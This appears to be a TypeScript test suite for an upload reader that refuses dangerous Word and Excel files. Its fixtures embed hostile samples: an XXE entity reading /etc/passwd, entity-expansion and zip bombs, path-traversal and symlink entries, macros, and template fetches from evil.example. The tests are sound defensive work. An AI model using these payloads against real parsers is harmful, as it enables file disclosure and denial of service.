import assert from 'node:assert/strict'
import { randomBytes } from 'node:crypto'
import { subscribe, unsubscribe } from 'node:diagnostics_channel'
import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, before, describe, test } from 'node:test'
import { readUpload, sayReadingRefusal, uploadLimit } from './index.ts'
import { fetching, paragraph, sheetFile, wordFile, zipped, type Entry } from './test/hostile.ts'

let folder: string
before(async () => {
  folder = await mkdtemp(join(tmpdir(), 'reading-'))
})
after(() => rm(folder, { recursive: true, force: true }))

const read = async (bytes: Buffer, name = 'paper.docx') => {
  const path = join(folder, 'file')
  await writeFile(path, bytes)
  return readUpload({ field: 'file', name, path, size: bytes.length, tooLarge: false })
}
const refusalOf = async (bytes: Buffer, name?: string): Promise<string> => {
  const answer = await read(bytes, name)
  if (answer.ok) return 'read'
  assert.match(sayReadingRefusal(answer.refusal), /^[A-Z].{30,}\.$/, 'says what happened and what to do')
  return answer.refusal.kind
}
const word = (body = paragraph('Words'), more: readonly Entry[] = []) => zipped(wordFile(body, more))
const png = Buffer.concat([Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), Buffer.alloc(400)])

describe('A file is refused, with words, when it', () => {
  const macros: Entry = { name: 'word/vbaProject.bin', data: 'VBA' }
  const cases: readonly (readonly [what: string, bytes: () => Buffer, kind: string, name?: string])[] = [
    ['is empty', () => Buffer.alloc(0), 'empty'],
    ['is a PDF', () => Buffer.from('%PDF-1.7'), 'not-a-document', 'paper.pdf'],
    ['is of another program', () => Buffer.from('No,Standard'), 'other-format', 'ours.csv'],
    ['is an open document', () => word(), 'other-format', 'ours.odt'],
    ['is a picture that was renamed', () => png, 'misnamed'],
    ['is a sheet that was renamed', () => zipped(sheetFile('<sheetData/>')), 'misnamed'],
    ['is a zip of something else', () => zipped([{ name: 'a.txt', data: 'a' }]), 'damaged'],
    ['promises macros by its name', () => word(), 'active', 'paper.docm'],
    ['holds macros', () => word(undefined, [macros]), 'active'],
    ['holds a program', () => word(undefined, [{ name: 'word/embeddings/a.exe', data: 'MZ' }]), 'active'],
    [
      'fetches a template',
      () => word(undefined, [fetching('attachedTemplate', 'https://evil.example/t.dotm')]),
      'active',
    ],
    ['fetches a frame', () => word(undefined, [fetching('frame', 'https://evil.example/')]), 'active'],
    ['is of before 2007, or locked', () => Buffer.from('d0cf11e0a1b11ae1', 'hex'), 'old-or-locked'],
    ['has the name of that format', () => word(), 'old-or-locked', 'paper.doc'],
    ['is encrypted part by part', () => zipped(wordFile('').map(part => ({ ...part, flags: 1 }))), 'damaged'],
    ['breaks off', () => word().subarray(0, 400), 'damaged'],
    ['breaks off inside its text', () => word('<w:p><w:r><w:t>half'), 'damaged'],
    [
      'is not UTF-8 inside',
      () =>
        zipped([
          ...wordFile('').slice(0, 2),
          { name: 'word/document.xml', data: Buffer.from('<?xml version="1.0"?><a>\xff\xfe</a>', 'latin1') },
        ]),
      'damaged',
    ],
    ['leads out of its folder', () => word(undefined, [{ name: '../../etc/passwd', data: 'x' }]), 'damaged'],
    [
      'holds a link to a file',
      () => word(undefined, [{ name: 'word/a', data: '/etc/passwd', mode: 0o120777 }]),
      'damaged',
    ],
    ['nests elements without end', () => word('<w:sdt>'.repeat(5000) + '</w:sdt>'.repeat(5000)), 'too-much'],
    [
      'has 10,000 parts',
      () =>
        word(
          undefined,
          Array.from({ length: 10_000 }, (_, at) => ({ name: `p${at}` })),
        ),
      'swells',
    ],
    ['has more text than any paper', () => word(paragraph(randomBytes(400).toString('hex')).repeat(3000)), 'too-much'],
  ]
  for (const [what, bytes, kind, name] of cases)
    test(what, async () => {
      assert.equal(await refusalOf(bytes(), name), kind)
    })

  for (const [what, doctype, body] of [
    ['reads a file of the machine', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>', paragraph('&x;')],
    ['swells by entities', '<!DOCTYPE a [<!ENTITY x "xxxxxxxxxx"><!ENTITY y "&x;&x;&x;">]>', paragraph('&y;')],
  ] as const)
    test(`${what}`, async () => {
      assert.equal(await refusalOf(zipped(wordFile(body, [], doctype))), 'active')
    })

  test('is larger than 10 MB, or was cut off at 40 MB on its way', async () => {
    const path = join(folder, 'file')
    await writeFile(path, word())
    const upload = { field: 'file', name: 'a.docx', path, size: uploadLimit + 1, tooLarge: false }
    for (const each of [upload, { ...upload, size: 100, tooLarge: true }]) {
      const answer = await readUpload(each)
      assert.ok(!answer.ok && answer.refusal.kind === 'too-large')
    }
    assert.ok(!(await readUpload(undefined)).ok)
  })
})

describe('Zips that swell', () => {
  const bomb = (claims?: number): Buffer =>
    zipped([
      ...wordFile(paragraph('Words')),
      {
        name: 'word/media/a.xml',
        data: Buffer.alloc(1024 * 1024, 0x20),
        times: 600,
        ...(claims === undefined ? {} : { claims }),
      },
    ])

  /** How many processes begin while something is read: it is unpacked in one of its own. */
  const processesFor = async (work: () => Promise<unknown>): Promise<number> => {
    let begun = 0
    const count = (): void => void begun++
    subscribe('child_process', count)
    await work().finally(() => unsubscribe('child_process', count))
    return begun
  }

  test('620 kB that unpack to 600 MB are refused before anything is unpacked', async () => {
    const bytes = bomb()
    assert.ok(bytes.length < 700_000, `${bytes.length} bytes`)
    assert.equal(await processesFor(async () => assert.equal(await refusalOf(bytes), 'swells')), 0)
    assert.equal(await processesFor(() => read(word())), 1, 'what is sound is unpacked')
  })

  test('one that claims to be small is stopped where it passes its claim', async () => {
    assert.match(await refusalOf(bomb(1000)), /^(?:swells|damaged)$/)
  })

  test('a zip inside a zip is another file inside, and is not opened', async () => {
    const inner = word(undefined, [{ name: 'word/vbaProject.bin', data: 'x' }])
    assert.equal(await refusalOf(word(undefined, [{ name: 'word/embeddings/a.docm', data: inner }])), 'active')
  })
})

describe('Memory and time', () => {
  test('a sheet that claims a million rows costs what stands in it', async () => {
    const cell = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>last</t></is></c></row>'
    const sheet = `<dimension ref="A1:XFD1048576"/><sheetData>${cell}</sheetData>`
    const answer = await read(zipped(sheetFile(sheet)), 'answers.xlsx')
    assert.ok(answer.ok && answer.value.kind === 'sheets')
    assert.deepEqual(
      answer.value.sheets.map(({ name, rows }) => [name, rows.length, rows[0]?.cells[0]?.column]),
      [['Answers', 1, 16_383]],
    )
  })

  test('a sheet that holds a million rows is too much', async () => {
    const row = (at: number) => `<row r="${at}"><c r="A${at}"><v>${at * 7919}</v></c></row>`
    const rows = Array.from({ length: 1_000_000 }, (_, at) => row(at + 1)).join('')
    assert.equal(await refusalOf(zipped(sheetFile(`<sheetData>${rows}</sheetData>`)), 'answers.xlsx'), 'too-much')
  })
})
